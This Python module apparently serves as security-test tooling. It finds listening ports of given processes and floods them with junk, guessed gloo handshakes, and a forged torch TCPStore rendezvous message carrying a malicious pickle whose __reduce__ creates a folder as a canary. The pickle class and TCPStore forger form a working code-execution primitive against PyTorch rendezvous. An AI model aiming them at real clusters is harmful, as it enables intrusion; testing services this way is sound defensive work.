"""Strangers: plain sockets that connect to whatever comes to listen, from this network or another, and send bytes."""

import base64
import contextlib
import ctypes
import os
import pickle
import socket
import struct
import threading
import time
from pathlib import Path

LISTEN = "0A"
LOOPBACK = "127.0.0.1"
CLONE_NEWNET = 0x40000000


def descendants(pid):
    """A process and its children, children's children included."""
    found = [pid]
    for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split():
        found += descendants(int(child))
    return found


def inodes(pid):
    """The sockets of a process and its children, by number."""
    found = set()
    for process in descendants(pid):
        for link in Path(f"/proc/{process}/fd").iterdir():
            with contextlib.suppress(OSError):
                target = str(link.readlink())
                if target.startswith("socket:["):
                    found.add(target[8:-1])
    return found


def listening(pid):
    """The addresses and ports at which a process and its children listen, or receive datagrams."""
    held, found = inodes(pid), set()
    for family in ("tcp", "tcp6", "udp", "udp6"):
        for line in Path(f"/proc/{pid}/net/{family}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[9] in held and (family.startswith("udp") or fields[3] == LISTEN):
                address, port = fields[1].split(":")
                found.add((_spelt(address), int(port, 16)))
    return found


def _spelt(address):
    words = [struct.pack("<I", int(address[start : start + 8], 16)) for start in range(0, len(address), 8)]
    return socket.inet_ntop(socket.AF_INET6 if len(words) > 1 else socket.AF_INET, b"".join(words))


class Malice:
    """Its pickle makes a folder."""

    def __init__(self, folder):
        self.folder = folder

    def __reduce__(self):
        return os.mkdir, (str(self.folder),)


def store_message(key, value):
    """A message in the protocol of torch's TCPStore that sets a key."""
    magic = b"\x00" + struct.pack("<I", 0x3C85F7CE)
    texts = b"".join(struct.pack("<Q", len(text)) + text for text in (b"/" + key.encode(), value))
    return magic + b"\x01" + texts


def poison(job, folder):
    """Sets a rendezvous's state to a pickle that makes ``folder``."""
    return store_message(f"torch.rendezvous.{job}", base64.b64encode(pickle.dumps(Malice(folder))))


JUNK = [b"", os.urandom(64), os.urandom(2**16), b"GET / HTTP/1.0\r\n\r\n", bytes(64)]
# gloo numbers the connections to a port from 0, and takes the first one that names the right number for a rank's.
GUESSES = [number.to_bytes(8, "little") + bytes(56) for number in range(8)]


class Stranger:
    """Connects to every port at which processes and their children come to listen, as soon as a port is there.

    Each message is sent over a connection of its own, and all connections stay open.
    """

    def __init__(self, pids, messages, *, network=None, every=None):
        """Attacks after ``__enter__``.

        Args:
          pids: the processes; more may be appended.
          messages: bytes.
          network: the namespace to come from; the loopback of this process's otherwise.
          every: seconds after which a port is attacked again; None: never.
        """
        self.pids, self._messages, self._network, self._every = pids, messages, network, every
        self.attacked, self.answers, self._connections = {}, [], []
        self._before = {place for pid in pids for place in listening(pid)}
        self._thread = threading.Thread(target=self._attack, daemon=True)
        self._going_on = True

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._going_on = False
        self._thread.join()
        for connection in self._connections:
            connection.setblocking(False)
            try:
                self.answers.append(connection.recv(2**16))
            except OSError:
                self.answers.append(b"")
            connection.close()

    def _attack(self):
        if self._network:
            with Path(f"/run/netns/{self._network}").open() as namespace:
                assert ctypes.CDLL(None).setns(namespace.fileno(), CLONE_NEWNET) == 0  # of this thread
        while self._going_on:
            for place in self._places():
                last = self.attacked.get(place)
                if last is None or (self._every and time.monotonic() > last + self._every):
                    self.attacked[place] = time.monotonic()
                    for message in self._messages:
                        with contextlib.suppress(OSError):
                            connection = socket.create_connection(place, 1)
                            self._connections.append(connection)
                            connection.sendall(message)
            time.sleep(0.005)

    def _places(self):
        found = set()
        for pid in list(self.pids):
            with contextlib.suppress(OSError):  # it has ended
                found |= listening(pid)
        return {place for place in found - self._before if (place[0] == LOOPBACK) == (self._network is None)}
